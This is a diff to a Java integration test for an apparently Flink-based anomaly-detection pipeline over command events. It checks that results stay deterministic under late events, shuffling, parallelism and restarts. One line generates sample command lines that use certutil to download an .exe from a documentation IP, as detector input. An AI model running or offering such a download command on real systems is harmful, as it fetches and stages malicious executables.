@@ -3,43 +3,53 @@ package dev.longtail.job.graph;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import dev.longtail.detectors.duplicates.NearDuplicateRule;
-import dev.longtail.detectors.flink.MappedTypeInfo;
 import dev.longtail.detectors.forest.IsolationForestDetector;
+import dev.longtail.detectors.window.DetectorWindows;
+import dev.longtail.detectors.window.FunnelCount;
+import dev.longtail.detectors.window.FunnelStage;
 import dev.longtail.detectors.window.SampleSize;
+import dev.longtail.detectors.window.Scale;
 import dev.longtail.detectors.window.ShardWindow;
 import dev.longtail.job.config.Scales;
+import dev.longtail.job.config.TimeRange;
 import dev.longtail.job.config.TopologyOptions;
 import dev.longtail.job.connect.FileSinks;
 import dev.longtail.job.run.Funnel;
 import dev.longtail.job.run.GeneratedDays;
 import dev.longtail.labeler.client.LabelerOptions;
 import dev.longtail.training.generate.GeneratedData;
+import dev.longtail.udfs.event.CommandEvent;
 import dev.longtail.udfs.event.NativeEventParser;
 import dev.longtail.udfs.io.Json;
 import dev.longtail.udfs.testing.Any;
 import dev.longtail.udfs.testing.Property;
 import dev.longtail.udfs.testing.SmallModel;
+import java.io.IOException;
+import java.io.UncheckedIOException;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Duration;
+import java.time.Instant;
 import java.util.ArrayList;
+import java.util.Collections;
 import java.util.Comparator;
+import java.util.HashSet;
 import java.util.IdentityHashMap;
 import java.util.List;
 import java.util.Map;
 import java.util.Random;
+import java.util.Set;
 import java.util.TreeMap;
 import java.util.UUID;
-import java.util.concurrent.ConcurrentHashMap;
-import java.util.concurrent.atomic.AtomicInteger;
+import java.util.concurrent.CompletableFuture;
+import java.util.concurrent.Future;
+import java.util.stream.IntStream;
+import org.apache.flink.api.common.JobExecutionResult;
 import org.apache.flink.api.common.RuntimeExecutionMode;
-import org.apache.flink.api.connector.source.util.ratelimit.RateLimiterStrategy;
 import org.apache.flink.configuration.CheckpointingOptions;
 import org.apache.flink.configuration.Configuration;
 import org.apache.flink.configuration.RestartStrategyOptions;
-import org.apache.flink.connector.datagen.source.DataGeneratorSource;
-import org.apache.flink.connector.datagen.source.GeneratorFunction;
 import org.apache.flink.connector.file.src.FileSource;
 import org.apache.flink.connector.file.src.reader.TextLineInputFormat;
 import org.apache.flink.streaming.api.environment.StreamExecutionEnvironment;
@@ -49,22 +59,29 @@ import org.junit.jupiter.api.io.TempDir;
 /**
  * A result is a function of the events: in any order of arrival within the bounded
  * out-of-orderness, at any parallelism, streaming or bounded, and killed at any point, the same
- * events give the same output, byte for byte once it is sorted.
+ * events give the same output, byte for byte once it is sorted. Late events change nothing of it
+ * but the count of late events, and are an output of their own.
  */
 class FunctionOfTheEventsIT {
   private static final int DAYS = 3;
   private static final Duration LATENESS = Duration.ofHours(5);
-  private static final int EVENTS_A_SECOND = 2500;
+  private static final int EVENTS_A_STEP = 100;
 
-  /** The records of a run, by its name: sources are serialised and find them here. */
-  private static final Map<String, List<SourceRecord>> RECORDS = new ConcurrentHashMap<>();
+  /** So slowly that checkpoints lie between late events. */
+  private static final int LATE_EVENTS_A_STEP = 4;
 
-  private static final Map<String, AtomicInteger> DEATHS = new ConcurrentHashMap<>();
+  private static final Duration STEP = Duration.ofMillis(40);
+  private static final int SHARDS = 4;
+  private static final int LATE_EVENTS = 40;
+  private static final long DAY = Duration.ofDays(1).toMillis();
+  private static final long LAST_DAY =
+      Instant.parse("2025-01-0" + DAYS + "T00:00:00Z").toEpochMilli();
 
   @TempDir static Path folder;
   private static List<SourceRecord> inOrder;
   private static TopologyOptions options;
   private static Map<Output, List<String>> reference;
+  private static Path referenceCounts;
   private static Path known;
 
   /**
@@ -91,11 +108,10 @@ class FunctionOfTheEventsIT {
     // Pools of 30 are far smaller than the 150 lines of a shard: the previous models choose.
     options =
         new TopologyOptions(
-            new TopologyOptions.Events(
-                defaults.events().windows(), GeneratedDays.january(DAYS), LATENESS),
+            new TopologyOptions.Events(defaults.events().windows(), TimeRange.ALL, LATENESS),
             new TopologyOptions.Ranking(
                 Scales.BOTH,
-                4,
+                SHARDS,
                 8,
                 new IsolationForestDetector(25, 64),
                 new ShardWindow.Limits(80, 30, 1024),
@@ -103,7 +119,9 @@ class FunctionOfTheEventsIT {
             new TopologyOptions.NearDuplicates(
                 SmallModel.MODEL, new NearDuplicateRule(SmallModel.COSINE, true)),
             new TopologyOptions.Labels(LabelerOptions.truth(data.truth()), true));
-    reference = outputOf(new Run(0, 1, RuntimeExecutionMode.BATCH, 0, false), inOrder);
+    Run bounded = new Run(0, 1, RuntimeExecutionMode.BATCH, 0, false);
+    reference = outputOf("reference", bounded, inOrder, List.of());
+    referenceCounts = folder.resolve("reference").resolve(Output.FUNNEL.folder());
     // The isolation forest of the full scale and the three detectors of the reduced one.
     assertThat(reference.get(Output.ANOMALIES)).hasSize(4 * 8 * DAYS);
     assertThat(reference.get(Output.EXEMPLARS)).isNotEmpty();
@@ -130,9 +148,18 @@ class FunctionOfTheEventsIT {
   }
 
   private static void givesTheSameOutput(Run run) throws Exception {
-    Map<Output, List<String>> result = outputOf(run, arrival(run.shuffle()));
-    assertThat(result.keySet()).isEqualTo(reference.keySet());
-    reference.forEach(
+    boolean streaming = run.mode() == RuntimeExecutionMode.STREAMING;
+    Map<Output, List<String>> expected = new TreeMap<>(reference);
+    List<SourceRecord> late = streaming ? lateEvents() : List.of();
+    if (streaming) {
+      expected.put(
+          Output.LATE, late.stream().map(record -> LateLine.of(record.event())).sorted().toList());
+    }
+    expected.put(Output.FUNNEL, funnelWith(late));
+    Map<Output, List<String>> result =
+        outputOf(UUID.randomUUID().toString(), run, arrival(run.shuffle()), late);
+    assertThat(result.keySet()).isEqualTo(expected.keySet());
+    expected.forEach(
         (output, lines) ->
             assertThat(result.get(output)).as(output + " of " + run).isEqualTo(lines));
   }
@@ -148,31 +175,89 @@ class FunctionOfTheEventsIT {
     return inOrder.stream().sorted(Comparator.comparingLong(arrivals::get)).toList();
   }
 
-  private static Map<Output, List<String>> outputOf(Run run, List<SourceRecord> records)
-      throws Exception {
-    String name = UUID.randomUUID().toString();
-    RECORDS.put(name, records);
-    DEATHS.put(name, new AtomicInteger());
+  /** Events of all windows but the last, and of long before: old commands and new ones. */
+  private static List<SourceRecord> lateEvents() {
+    List<SourceRecord> late = new ArrayList<>();
+    for (int i = 0; i < LATE_EVENTS; i++) {
+      SourceRecord early = inOrder.get(i * 7);
+      String ofTheDay = early.event().commandLine();
+      long ts =
+          switch (i % 5) {
+            case 0 -> i * 1000L;
+            case 1 -> LAST_DAY - (DAYS + 1) * DAY - i;
+            case 2 -> LAST_DAY - 1;
+            default -> early.timestamp();
+          };
+      String line =
+          i % 2 == 0 ? ofTheDay : "certutil -urlcache -f http://203.0.113.9/" + i + ".exe";
+      late.add(
+          new SourceRecord(
+              new CommandEvent("late-" + i, ts, "host", "user", "linux", "", "", line), null));
+    }
+    return late;
+  }
+
+  /** The reference's counts and these late events; those of 1970 have no window of their own. */
+  private static List<String> funnelWith(List<SourceRecord> late) {
+    Funnel funnel = Funnel.read(referenceCounts);
+    DetectorWindows windows = options.events().windows();
+    Map<String, Long> counts = new TreeMap<>();
+    for (SourceRecord record : late) {
+      boolean longAgo = record.timestamp() < DAY;
+      String window = windows.nameOf(windows.startOf(record.timestamp()));
+      counts.merge(longAgo ? FunnelCount.UNKNOWN_WINDOW : window, 1L, Long::sum);
+    }
+    counts.forEach(
+        (window, count) -> {
+          for (Scale scale : Scale.values()) {
+            funnel.add(new FunnelCount(window, scale.label(), FunnelStage.LATE, "test", count));
+          }
+        });
+    return rows(funnel);
+  }
+
+  private static List<String> rows(Funnel funnel) {
+    return funnel.rows().stream().map(Json::line).toList();
+  }
+
+  /**
+   * Runs the events. Those of {@code late} come before the last of them, when the windows of the
+   * late ones are closed and a restart cannot open them again.
+   */
+  private static Map<Output, List<String>> outputOf(
+      String name, Run run, List<SourceRecord> records, List<SourceRecord> late) throws Exception {
     Path out = Files.createDirectory(folder.resolve(name));
+    int onTime = records.size() * 9 / 10;
+    List<SourceRecord> all = new ArrayList<>(records.subList(0, onTime));
+    List<SourceRecord> anyOrder = new ArrayList<>(late);
     Random random = new Random(run.shuffle());
-    boolean streaming = run.mode() == RuntimeExecutionMode.STREAMING;
-    int[] killedAt = random.ints(streaming ? run.kills() : 0, 1, records.size()).sorted().toArray();
-    DataGeneratorSource<SourceRecord> source =
-        new DataGeneratorSource<>(
-            new Events(name, killedAt),
-            records.size(),
-            streaming ? RateLimiterStrategy.perSecond(EVENTS_A_SECOND) : RateLimiterStrategy.noOp(),
-            MappedTypeInfo.of(JobMappers.SOURCE_RECORD));
+    Collections.shuffle(anyOrder, random);
+    all.addAll(anyOrder);
+    all.addAll(records.subList(onTime, records.size()));
+    GatedSource.Gate gate = GatedSource.gate(name);
+    int lateEnd = onTime + late.size();
+    int[] killedAt = killedAt(run, random, onTime, lateEnd);
+    gate.reads(all, killedAt);
     StreamExecutionEnvironment env = environment(run, folder.resolve(name + "-checkpoints"));
     new LongtailTopology(
-            source,
+            new GatedSource(name),
             run.knows() ? earlierExemplars() : null,
             new FileSinks(new org.apache.flink.core.fs.Path(out.toUri()), false),
             options,
             run.mode())
         .build(env);
-    env.execute();
-    assertThat(DEATHS.get(name)).as("deaths").hasValue(killedAt.length);
+    CompletableFuture<JobExecutionResult> end = env.executeAsync().getJobExecutionResult();
+    if (run.mode() == RuntimeExecutionMode.STREAMING) {
+      openTo(onTime, 0, EVENTS_A_STEP, gate, end);
+      while (!isClosedForEver(out) && !end.isDone()) {
+        Thread.sleep(50);
+      }
+      openTo(lateEnd, onTime, LATE_EVENTS_A_STEP, gate, end);
+      openTo(all.size(), lateEnd, EVENTS_A_STEP, gate, end);
+    }
+    gate.openTo(all.size());
+    var unused = end.get();
+    assertThat(gate.deaths()).as("deaths").isEqualTo(killedAt.length);
     Map<Output, List<String>> lines = new TreeMap<>();
     for (Output output : Output.values()) {
       Path written = out.resolve(output.folder());
@@ -180,10 +265,52 @@ class FunctionOfTheEventsIT {
         lines.put(output, GeneratedDays.sortedLines(written));
       }
     }
-    lines.put(
-        Output.FUNNEL,
-        Funnel.read(out.resolve(Output.FUNNEL.folder())).rows().stream().map(Json::line).toList());
+    lines.put(Output.FUNNEL, rows(Funnel.read(out.resolve(Output.FUNNEL.folder()))));
     return lines;
+  }
+
+  /** Half of the times anywhere, half of the times at a late event: it is then read first. */
+  private static int[] killedAt(Run run, Random random, int onTime, int lateEnd) {
+    if (run.mode() != RuntimeExecutionMode.STREAMING) {
+      return new int[0];
+    }
+    return IntStream.range(0, run.kills())
+        .map(i -> random.nextInt(random.nextBoolean() ? 1 : onTime + 8, lateEnd))
+        .sorted()
+        .toArray();
+  }
+
+  private static void openTo(int end, int from, int step, GatedSource.Gate gate, Future<?> job)
+      throws InterruptedException {
+    for (int open = from; open < end && !job.isDone(); open += step) {
+      gate.openTo(Math.min(open + step, end));
+      Thread.sleep(STEP.toMillis());
+    }
+  }
+
+  /**
+   * Whether every shard has closed all days but the last, and a checkpoint has it: files become
+   * visible with it.
+   */
+  private static boolean isClosedForEver(Path out) throws IOException {
+    Path counts = out.resolve(Output.FUNNEL.folder());
+    if (!Files.exists(counts)) {
+      return false;
+    }
+    List<String> lines;
+    try {
+      lines = GeneratedDays.sortedLines(counts);
+    } catch (UncheckedIOException e) { // a draft became a file meanwhile
+      return false;
+    }
+    Set<String> closed = new HashSet<>();
+    for (String line : lines) {
+      FunnelCount count = Json.MAPPER.readValue(line, FunnelCount.class);
+      if (count.stage() == FunnelStage.UNIQUE && count.scale().equals(Scale.FULL.label())) {
+        closed.add(count.window() + count.place());
+      }
+    }
+    return closed.size() == SHARDS * (DAYS - 1);
   }
 
   private static FileSource<String> earlierExemplars() {
@@ -202,23 +329,9 @@ class FunctionOfTheEventsIT {
         StreamExecutionEnvironment.createLocalEnvironment(run.parallelism(), config);
     if (run.mode() == RuntimeExecutionMode.STREAMING) {
       env.enableCheckpointing(100);
+      // So that the first watermark after a restart is that of the first events.
+      env.getConfig().setAutoWatermarkInterval(2);
     }
     return env;
-  }
-
-  /** Delivers the events of a run, and dies where it is told to. */
-  private record Events(String run, int[] killedAt)
-      implements GeneratorFunction<Long, SourceRecord> {
-    @Override
-    public SourceRecord map(Long index) {
-      AtomicInteger deaths = DEATHS.get(run);
-      int died = deaths.get();
-      if (died < killedAt.length
-          && index == killedAt[died]
-          && deaths.compareAndSet(died, died + 1)) {
-        throw new IllegalStateException("killed at event " + index);
-      }
-      return RECORDS.get(run).get(index.intValue());
-    }
   }
 }
